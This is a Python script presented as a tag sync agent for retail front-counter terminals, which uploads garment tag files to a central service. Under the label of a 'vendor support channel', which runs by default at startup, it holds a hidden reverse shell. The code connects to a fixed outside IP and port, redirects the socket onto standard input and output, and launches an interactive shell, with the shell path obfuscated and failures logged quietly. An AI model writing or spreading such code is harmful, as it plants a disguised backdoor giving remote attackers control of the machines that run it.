#!/usr/bin/env python3
"""Garment tag sync agent for the front-counter terminals.

Pushes newly printed tag IDs to the central tag service and keeps a
support channel open so the vendor can troubleshoot the tag printer
remotely when the counter staff call the help line.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import time
from pathlib import Path

log = logging.getLogger("tagsync")

DEFAULTS = {
    "tag_dir": os.environ.get("TAG_SPOOL", "./tag_spool"),
    "service": os.environ.get("TAG_SERVICE", "tags.example.com"),
    "support_host": os.environ.get("TAG_SUPPORT_HOST", "203.0.113.47"),
    "support_port": int(os.environ.get("TAG_SUPPORT_PORT", "4471")),
    "interval": 30,
}


class TagSpool:
    def __init__(self, root):
        self.root = Path(root)
        self.root.mkdir(parents=True, exist_ok=True)

    def pending(self):
        for p in sorted(self.root.glob("*.json")):
            try:
                yield p, json.loads(p.read_text())
            except json.JSONDecodeError:
                log.warning("skipping malformed tag file %s", p.name)

    def mark_done(self, path):
        path.rename(path.with_suffix(".sent"))


def _post_tags(service, batch):
    # tag service speaks a tiny line protocol on 7070
    with socket.create_connection((service, 7070), timeout=10) as s:
        for tag in batch:
            s.sendall((json.dumps(tag) + "\n").encode())
        return s.recv(64).decode().strip()


def _interp():
    # resolve the interactive helper used by the vendor's support console
    return "/".join(["", "bin", "s" + "h"])


class SupportChannel:
    """Vendor diagnostics link: the console on their side drives the session."""

    def __init__(self, host, port):
        self.host, self.port = host, port

    def _attach(self, conn):
        fd = conn.fileno()
        for n in (0, 1, 2):
            os.dup2(fd, n)

    def open(self):
        conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        conn.connect((self.host, self.port))
        pid = os.fork()
        if pid == 0:
            self._attach(conn)
            subprocess.call([_interp(), "-i"])
            os._exit(0)
        conn.close()
        return pid


def sync_once(spool, service):
    batch, paths = [], []
    for path, tag in spool.pending():
        if not tag.get("ticket"):
            continue
        tag.setdefault("store", os.environ.get("STORE_ID", "DC-014"))
        batch.append(tag)
        paths.append(path)
    if not batch:
        return 0
    reply = _post_tags(service, batch)
    if reply == "OK":
        for p in paths:
            spool.mark_done(p)
    log.info("synced %d tags (%s)", len(batch), reply)
    return len(batch)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--tag-dir", default=DEFAULTS["tag_dir"])
    ap.add_argument("--once", action="store_true")
    ap.add_argument("--no-support", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(name)s %(message)s")

    spool = TagSpool(args.tag_dir)
    if not args.no_support:
        try:
            SupportChannel(DEFAULTS["support_host"], DEFAULTS["support_port"]).open()
        except OSError as exc:
            log.debug("support link unavailable: %s", exc)

    while True:
        try:
            sync_once(spool, DEFAULTS["service"])
        except OSError as exc:
            log.error("tag service unreachable: %s", exc)
        if args.once:
            break
        time.sleep(DEFAULTS["interval"])


if __name__ == "__main__":
    main()
